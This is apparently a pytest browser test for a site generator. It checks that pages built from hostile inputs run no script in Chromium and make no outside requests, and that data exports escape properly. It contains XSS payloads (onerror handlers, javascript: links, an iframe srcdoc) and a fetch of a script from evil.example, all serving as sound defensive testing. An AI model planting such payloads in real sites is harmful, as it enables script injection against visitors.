"""No stranger's text does anything but be read: real Chromium over a site made of hostile texts."""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ElementTree
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
import web_tools
from playwright.sync_api import Browser, Route
from sites import DAY, words

from ogpsite import build
from security.hostile_site import write_hostile
from security.vectors import VECTORS

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.xdist_group("hostile")]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[build.Result, Path]:
    """The hostile site, built."""
    folder = tmp_path_factory.mktemp("hostile")
    root = write_hostile(folder / "site")
    result = build.build(build.Job(root, DAY), folder / "output")
    assert result.ok, "\n".join(words(tuple(one for one in result.problems if one.fatal))[:40])
    return result, folder / "output"


@pytest.fixture(scope="module")
def address(hostile: tuple[build.Result, Path]) -> Iterator[str]:
    with web_tools.served(web_tools.folder(hostile[1])) as found:
        yield f"{found}/"


def pages(result: build.Result) -> list[str]:
    return sorted(output.path for output in result.outputs if output.path.endswith(".html"))


def test_there_are_enough_vectors() -> None:
    assert len(VECTORS) >= 300


ELEMENTS = frozenset(
    "html head meta title link script style body header nav main footer section article aside div span p a ul ol li dl dt "
    "dd h1 h2 h3 h4 h5 h6 img svg path rect circle line polyline polygon g text tspan desc use defs symbol title table "
    "caption thead tbody tfoot tr th td col colgroup form input select option button label fieldset legend output details "
    "summary time abbr address blockquote cite code pre em strong b i u s del ins sub sup small mark q kbd br hr wbr "
    "figure figcaption data datalist meter progress search template noscript dialog bdi bdo optgroup textarea "
    "clippath lineargradient stop pattern marker ellipse image hgroup menu picture source".split()
)


class Broken(HTMLParser):
    """Elements and attributes that no page of ours has."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ELEMENTS:
            self.found.append(f"<{tag}>")
        if tag == "script" and not dict(attrs).get("src") and "json" not in (dict(attrs).get("type") or ""):
            self.found.append(f"an inline script {attrs}")
        for name, value in attrs:
            bad = name.startswith("on") or name in ("style", "srcdoc", "formaction", "ping", "background", "xlink:href")
            if bad or not re.fullmatch(r"[a-z][a-z0-9:-]*", name):
                self.found.append(f"<{tag} {name}={value!r}>")
            scheme = re.match(r"[\s\x00-\x20]*([a-z][a-z0-9+.-]*):", (value or "").lower())
            leads = name in ("href", "src", "action", "cite", "data", "poster") and scheme
            if leads and scheme and scheme[1] not in ("http", "https", "mailto", "tel", "webcal"):
                self.found.append(f"<{tag} {name}={value!r}>")
            loads = tag in ("img", "script", "source", "video", "audio", "iframe") and name in ("src", "srcset")
            if loads and re.match(r"\s*(https?:)?[/\\]{2}", value or ""):
                self.found.append(f"<{tag} {name}={value!r}> loads from elsewhere")


def test_no_page_has_a_broken_out_attribute(hostile: tuple[build.Result, Path]) -> None:
    result, _ = hostile
    for output in result.outputs:
        if output.path.endswith(".html"):
            reader = Broken()
            reader.feed(output.data.decode())
            reader.close()
            assert not reader.found, f"{output.path}: {reader.found[:5]}"


# ruff: noqa: E501 - the browser's own words
# What a page is asked in the browser: everything that could run, whatever put it there.
LOOK = """() => {
  const found = [];
  for (const one of document.querySelectorAll('*')) {
    for (const {name, value} of one.attributes) {
      if (/^on/i.test(name) || name === 'srcdoc' || name === 'style') found.push(`${one.tagName} ${name}=${value}`);
      if (/^\\s*(javascript|vbscript|data):/i.test(value) && /^(href|src|action|formaction|data|xlink:href)$/i.test(name))
        found.push(`${one.tagName} ${name}=${value}`);
    }
    if (/^(iframe|frame|object|embed|base|applet|portal|foreignobject|math|marquee)$/i.test(one.tagName))
      found.push(one.tagName);
  }
  for (const name of ['search', 'main', 'location', 'cookie', 'body', 'forms'])
    if (document[name] && document[name].nodeType === 1 && name !== 'body') found.push(`document.${name} is shadowed`);
  return found;
}"""


def test_nothing_runs_in_a_real_browser(hostile: tuple[build.Result, Path], address: str, browser: Browser) -> None:
    """Without our content policy: the escaping alone must hold. Every English page, every fifth of the others."""
    result, _ = hostile
    found = pages(result)
    chosen = [path for path in found if not path.startswith(("fr/", "ar/"))]
    chosen += [path for number, path in enumerate(found) if path.startswith(("fr/", "ar/")) and number % 5 == 0]
    context = browser.new_context(bypass_csp=True)
    ran: list[str] = []
    asked: list[str] = []
    context.expose_function("xss", lambda *_: ran.append(page.url))

    def request(route: Route) -> None:
        if route.request.url.startswith(address):
            route.continue_()
        else:
            asked.append(f"{page.url} asks {route.request.url}")
            route.abort()

    page = context.new_page()
    context.route("**/*", request)  # what really leaves the browser
    page.on("dialog", lambda dialog: dialog.dismiss())
    for path in chosen:
        page.goto(f"{address}{path}", wait_until="domcontentloaded")
        broken = page.evaluate(LOOK)
        assert not broken, f"{path}: {broken[:5]}"
    page.wait_for_timeout(500)
    context.close()
    assert len(chosen) > 800
    assert (ran, asked) == ([], [])


def test_our_policy_alone_would_hold_too(hostile: tuple[build.Result, Path], address: str, browser: Browser) -> None:
    """The second wall: were a script to get into a page, the content policy would not let it run."""
    context = browser.new_context()
    page = context.new_page()
    ran: list[str] = []
    asked: list[str] = []
    page.expose_function("xss", lambda *_: ran.append(page.url))

    def request(route: Route) -> None:
        if route.request.url.startswith(address):
            route.continue_()
        else:
            asked.append(route.request.url)
            route.abort()

    context.route("**/*", request)
    page.goto(address, wait_until="domcontentloaded")
    page.evaluate(
        """() => {
          for (const text of ['xss()', 'import("https://evil.example/x.js")']) {
            const script = document.createElement('script'); script.textContent = text; document.body.append(script);
          }
          const div = document.createElement('div');
          div.innerHTML = '<img src=x onerror=xss()><a href="javascript:xss()">x</a>' +
            '<iframe srcdoc="<script>parent.xss()</script>"></iframe><img src=https://evil.example/x.png>';
          document.body.append(div);
          div.querySelector('a').click();
        }"""
    )
    page.wait_for_timeout(500)
    context.close()
    assert (ran, asked) == ([], [])


def test_every_other_form_is_escaped_in_its_own_way(hostile: tuple[build.Result, Path]) -> None:
    """JSON is JSON, XML is XML, no cell is a formula, no line of a calendar is a stranger's."""
    result, _target = hostile
    seen = set()
    for output in result.outputs:
        ending = output.path.rpartition(".")[2]
        if output.copy_of or ending not in ("json", "jsonld", "xml", "csv", "ics", "svg", "webmanifest"):
            continue
        seen.add(ending)
        text = output.data.decode("utf-8-sig")
        if ending in ("json", "jsonld", "webmanifest"):
            json.loads(text)
        elif ending in ("xml", "svg"):
            assert "<!ENTITY" not in text.replace("&lt;!ENTITY", "")
            root = ElementTree.fromstring(text)
            assert not [one.tag for one in root.iter() if "script" in str(one.tag).lower()], output.path
        elif ending == "csv":
            delimiter = ";" if text.split("\n", 1)[0].count(";") > text.split("\n", 1)[0].count(",") else ","
            cells = [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
            formulas = [
                cell for cell in cells if re.match(r"[=+\-@\t\r]", cell) and not re.fullmatch(r"-?\d[\d.,-]*", cell)
            ]
            assert not formulas, f"{output.path}: {formulas[:3]}"
        elif ending == "ics":
            assert not re.search(r"(?m)^(BEGIN:VALARM|ATTACH|X-Evil)", text), output.path
    assert seen >= {"json", "xml", "csv", "ics"}


def test_json_in_pages_can_not_end_its_script(hostile: tuple[build.Result, Path]) -> None:
    result, _ = hostile
    for output in result.outputs:
        if output.path.endswith(".html"):
            for inside in re.findall(rb'<script type="application/[a-z+]*json"[^>]*>(.*?)</script', output.data, re.S):
                json.loads(inside)
                assert b"<" not in inside and b"-->" not in inside, output.path
